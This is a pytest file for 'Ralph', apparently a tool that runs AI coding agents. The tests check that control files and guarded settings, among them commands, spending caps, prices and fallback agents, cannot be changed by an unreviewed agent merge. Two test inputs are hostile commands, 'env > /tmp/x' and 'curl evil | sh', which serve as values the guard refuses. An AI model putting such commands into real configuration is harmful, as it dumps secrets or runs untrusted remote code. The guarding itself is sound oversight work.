"""Ralph's control files and guarded settings, named once: which paths an agent may not
change without a person, and what is in force when ralph.toml's guarded settings
change, transition by transition."""

from __future__ import annotations

from dataclasses import fields

import pytest

from ralph.config import Config
from ralph.project._actions import WORKFLOWS
from ralph.workflow import (
    GUARDED_SETTINGS,
    ControlChange,
    control_changes,
    control_reason,
    hold_reason,
    judge_settings,
)


@pytest.mark.parametrize(
    "path",
    [
        "ralph.toml",
        ".ralph/prompts/plan.md",
        ".ralph-routing.yml",
        ".claude/settings.json",
        ".claude/hooks/x.sh",
        ".codex/config.toml",
        ".gemini/settings.json",
        "opencode.json",
        ".opencode/agent/x.md",
        ".mcp.json",
        *(f".github/workflows/{w.name}" for w in WORKFLOWS),
        ".github/workflows/ci.yml",
        ".github/actions/setup/action.yml",
    ],
)
def test_each_control_file_has_a_reason(path: str) -> None:
    assert control_reason(path)


@pytest.mark.parametrize(
    "path",
    ["src/ralph.toml", "README.md", ".github/CODEOWNERS", ".claudex", "docs/.ralph.md"],
)
def test_other_files_are_none(path: str) -> None:
    assert control_reason(path) is None


def test_the_prompt_overrides_folder_is_whatever_ralph_toml_names() -> None:
    assert control_reason("prompts/plan.md", "prompts") is not None
    assert control_reason("./prompts/plan.md", "./prompts/") is not None
    assert control_reason("prompts/plan.md") is None
    assert control_reason("anything.py", ".") is None  # "." would be every file


def test_changes_are_listed_once_sorted_with_their_reason() -> None:
    found = control_changes(["src/a.py", "ralph.toml", ".claude/settings.json", "ralph.toml"])
    assert [c.path for c in found] == [".claude/settings.json", "ralph.toml"]
    assert found[1] == ControlChange("ralph.toml", "Ralph's own settings")


def test_the_hold_reason_names_the_file_why_and_the_way_through() -> None:
    reason = hold_reason(
        [ControlChange("ralph.toml", "Ralph's own settings")],
        what="feature/GH-7",
        way_through="lets Ralph go on with `ralph issue retry 7 --accept-control-files`",
    )
    assert reason == (
        "feature/GH-7 changes ralph.toml, Ralph's own settings: an agent may not change what "
        "Ralph runs; a person reviews the change and lets Ralph go on with "
        "`ralph issue retry 7 --accept-control-files`"
    )


ACCEPTED: dict[str, object] = dict.fromkeys(GUARDED_SETTINGS, "")


def test_the_first_settings_read_are_accepted_and_recorded_silently() -> None:
    verdict = judge_settings(None, ACCEPTED, from_ralph_merge=False)
    assert verdict.in_force == ACCEPTED
    assert verdict.to_record == ACCEPTED
    assert verdict.lines == ()


def test_unchanged_settings_record_nothing() -> None:
    verdict = judge_settings(ACCEPTED, ACCEPTED, from_ralph_merge=True)
    assert (verdict.in_force, verdict.to_record, verdict.lines) == (ACCEPTED, None, ())


def test_a_change_a_ralph_merge_made_is_refused_and_the_accepted_value_stays() -> None:
    loaded = {**ACCEPTED, "notify.command": "env > /tmp/x"}
    verdict = judge_settings(ACCEPTED, loaded, from_ralph_merge=True)
    assert verdict.in_force["notify.command"] == ""
    assert verdict.to_record is None
    assert verdict.lines == (
        "ralph.toml's notify.command changed since the last run: `` → `env > /tmp/x`, by a "
        "merge Ralph made without a person: refused, `` stays in force; commit the change "
        "yourself to accept it",
    )


def test_a_persons_change_is_accepted_recorded_and_shown() -> None:
    loaded = {**ACCEPTED, "test_command": "make test"}
    verdict = judge_settings(ACCEPTED, loaded, from_ralph_merge=False)
    assert verdict.in_force["test_command"] == "make test"
    assert verdict.to_record == loaded
    assert verdict.lines == (
        "ralph.toml's test_command changed since the last run: `` → `make test` (a person's "
        "change: accepted)",
    )


def test_a_setting_never_recorded_counts_as_changed() -> None:
    """A store that recorded only some settings (one was set in the environment then)
    still guards the others: a Ralph merge's value for them is refused."""
    recorded = {k: v for k, v in ACCEPTED.items() if k != "test_command"}
    loaded = {**ACCEPTED, "test_command": "curl evil | sh"}
    refused = judge_settings(recorded, loaded, from_ralph_merge=True)
    assert refused.in_force["test_command"] is None
    assert refused.lines == (
        "ralph.toml's test_command changed since the last run: `not recorded` → "
        "`curl evil | sh`, by a merge Ralph made without a person: refused, its narrowest "
        "value is in force; commit the change yourself to accept it",
    )
    accepted = judge_settings(recorded, loaded, from_ralph_merge=False)
    assert accepted.to_record == loaded


def test_the_spending_caps_prices_and_fallback_agents_are_guarded() -> None:
    """An agent's branch raising a cap (0 is no cap), lowering a price or naming a
    fallback agent would, merged by Ralph alone, be obeyed: they are guarded too."""
    caps = {f.name for f in fields(Config) if f.name.startswith("budget_")} - {"budget_on_cap"}
    assert caps == {
        "budget_task_usd",
        "budget_run_usd",
        "budget_day_usd",
        "budget_stall_usd",
        "budget_task_tokens",
        "budget_run_tokens",
        "budget_issue_tokens",
        "budget_day_tokens",
        "budget_day_sessions",
        "budget_stall_tokens",
    }
    # An agent run's own dollar cap ([agent] max_usd, a role's, a phase's) wins over
    # budget_task_usd.
    others = {"prices", "agent.fallback_agents", "agent.max_usd"}
    assert caps | others <= set(GUARDED_SETTINGS)


def test_a_cap_a_ralph_merge_lifted_is_refused_and_the_cap_stays() -> None:
    accepted = {**ACCEPTED, "budget_run_tokens": 1500}
    loaded = {**ACCEPTED, "budget_run_tokens": 0}
    verdict = judge_settings(accepted, loaded, from_ralph_merge=True)
    assert verdict.in_force["budget_run_tokens"] == 1500
    assert verdict.to_record is None
    assert verdict.lines == (
        "ralph.toml's budget_run_tokens changed since the last run: `1500` → `0`, by a merge "
        "Ralph made without a person: refused, `1500` stays in force; commit the change "
        "yourself to accept it",
    )


def test_a_price_a_ralph_merge_lowered_is_refused_with_its_whole_table() -> None:
    price = {"input": 3.0, "cached_input": 0.3, "cache_write": 3.75, "output": 15.0}
    accepted = {**ACCEPTED, "prices": {"gpt-5": price}}
    loaded = {**ACCEPTED, "prices": {"gpt-5": {**price, "output": 0.0}}}
    verdict = judge_settings(accepted, loaded, from_ralph_merge=True)
    assert verdict.in_force["prices"] == {"gpt-5": price}
    assert "ralph.toml's prices changed since the last run" in verdict.lines[0]
    assert "refused" in verdict.lines[0]
    mine = judge_settings(accepted, loaded, from_ralph_merge=False)
    assert mine.in_force["prices"] == loaded["prices"]
    assert mine.to_record == loaded


def test_a_setting_never_recorded_in_a_persons_file_is_recorded_without_a_word() -> None:
    """A Ralph that guards more settings than the store recorded (an upgrade) does not
    list each one at the next run as a change: the person's values are taken quietly,
    as at the first run."""
    recorded = {k: v for k, v in ACCEPTED.items() if k not in ("prices", "budget_run_usd")}
    loaded = {**ACCEPTED, "prices": {}, "budget_run_usd": 0.0}
    verdict = judge_settings(recorded, loaded, from_ralph_merge=False)
    assert verdict.to_record == loaded
    assert verdict.lines == ()
